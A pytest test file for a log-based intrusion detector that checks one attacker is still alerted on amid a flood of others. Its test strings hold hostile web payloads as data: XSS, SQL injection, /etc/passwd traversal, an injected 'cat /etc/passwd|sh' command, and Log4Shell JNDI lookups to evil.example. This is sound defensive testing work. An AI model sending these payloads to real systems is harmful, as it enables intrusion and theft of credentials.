"""A flood of attacks must not hide another attacker, however much comes at once."""
import json
import subprocess

import pytest

from conftest import ROOT, SEKISHO, access_line, wait_for

NOISY = "/.env?a=<script>alert(1)</script>'union select 1 from a--&b=../../../etc/passwd&c=;cat /etc/passwd|sh&d=${jndi:ldap://e/x}"
CONCLUSIVE = "/?x=${jndi:ldap://evil.example/x}"


@pytest.mark.parametrize("first", [True, False])
def test_one_attacker_in_a_burst_of_another(agent, first):
    agent.parser, agent.rules = "combined", str(ROOT / "rules")
    agent.response = "{mode: enforce, planes: [dry-run]}"
    noise = "".join(access_line(i, NOISY, "203.0.113.50", 404, "sqlmap") for i in range(700))
    one = access_line(0, CONCLUSIVE, "198.51.100.77")
    (agent.logs / "a.log").write_text(one + noise if first else noise + one)
    agent.start()
    query = "SELECT entity_value FROM alerts WHERE rule = 'web.log4shell.jndi'"
    wait_for(lambda: {r[0] for r in agent.query(query)} >= {"198.51.100.77", "203.0.113.50"}, "both alerts")
    agent.stop()


def address(i):
    return f"198.18.{i // 250}.{i % 250 + 1}"


def test_run_alerts_each_of_many_attackers(agent):
    agent.parser, agent.rules = "combined", str(ROOT / "rules")
    lines = "".join(access_line(0, NOISY, address(i), 404) for i in range(3000))
    (agent.logs / "a.log").write_text(lines)
    agent.start()
    query = "SELECT count(DISTINCT entity_value) FROM alerts WHERE rule = 'web.log4shell.jndi'"
    wait_for(lambda: agent.query(query) == [(3000,)], "an alert for each")
    agent.stop()


def test_scan_alerts_each_of_many_attackers(tmp_path):
    log = tmp_path / "a.log"
    log.write_text("".join(access_line(0, CONCLUSIVE, address(i)) for i in range(12000)))
    args = [SEKISHO, "scan", "--parser", "combined", "--rules", str(ROOT / "rules"), str(log)]
    out = subprocess.run(args, capture_output=True, text=True, timeout=120).stdout.splitlines()
    alerts = [a for a in map(json.loads, out) if a["kind"] == "alert" and a["rule"] == "web.log4shell.jndi"]
    assert len({a["entity"]["value"] for a in alerts}) == 12000
